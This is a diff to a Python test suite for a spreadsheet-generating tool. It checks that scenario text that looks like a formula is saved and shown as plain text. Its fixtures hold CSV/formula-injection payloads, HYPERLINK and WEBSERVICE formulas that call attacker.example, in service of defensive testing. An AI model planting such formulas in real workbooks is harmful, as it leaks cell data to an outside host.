@@ -71,6 +71,26 @@ def _scenario(item, notes, gain):
     )
 
 
+def _table_cell(sheet, table, column):
+    """The first data cell of a table's column, found by its header (not a fixed address)."""
+    ref = sheet.tables[table].ref
+    first, _ = ref.split(":")
+    header_row = sheet[first].row
+    for cell in sheet[header_row]:
+        if cell.value == column:
+            return sheet.cell(header_row + 1, cell.column)
+    raise AssertionError(f"{table} has no column {column!r}")
+
+
+def _text_cells(book):
+    """Cost item and notes of the first cost line, name of the first gain line."""
+    return [
+        _table_cell(book["Costs"], "CostLines", "Item"),
+        _table_cell(book["Costs"], "CostLines", "Notes"),
+        _table_cell(book["Gains"], "GainLines", "Gain line"),
+    ]
+
+
 def test_case_keeps_formula_looking_scenario_text_as_text(tmp_path, capsys):
     item = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
     notes = '=WEBSERVICE("http://attacker.example/")'
@@ -80,12 +100,12 @@ def test_case_keeps_formula_looking_scenario_text_as_text(tmp_path, capsys):
     out = tmp_path / "evil.xlsx"
     assert main(["case", str(scenario), "-o", str(out)]) == 0
     book = openpyxl.load_workbook(out)
-    cells = [book["Costs"]["B6"], book["Costs"]["H6"], book["Gains"]["A18"]]
+    cells = _text_cells(book)
     assert [c.value for c in cells] == [item, notes, gain]
     assert [c.data_type for c in cells] == ["s", "s", "s"]
     # LibreOffice opens it and shows the text, not a computed formula
     recalculated = openpyxl.load_workbook(convert([out], tmp_path / "lo")[0], data_only=True)
-    shown = [recalculated["Costs"]["B6"], recalculated["Costs"]["H6"], recalculated["Gains"]["A18"]]
+    shown = [recalculated[c.parent.title][c.coordinate] for c in cells]
     assert [c.value for c in shown] == [item, notes, gain]
 
 
@@ -94,11 +114,7 @@ def test_case_keeps_formula_looking_scenario_text_as_text(tmp_path, capsys):
 def test_no_scenario_text_ever_becomes_a_formula(item, notes, gain):
     _, fill = parse_scenario(_scenario(item, notes, gain))
     book = _saved(build_template("roi_business_case", fill))
-    for cell, value in (
-        (book["Costs"]["B6"], item),
-        (book["Costs"]["H6"], notes),
-        (book["Gains"]["A18"], gain or None),
-    ):
+    for cell, value in zip(_text_cells(book), (item, notes, gain or None), strict=True):
         assert cell.data_type != "f"
         if value:
             assert cell.value == _as_xml_reads_it(text_value(value))
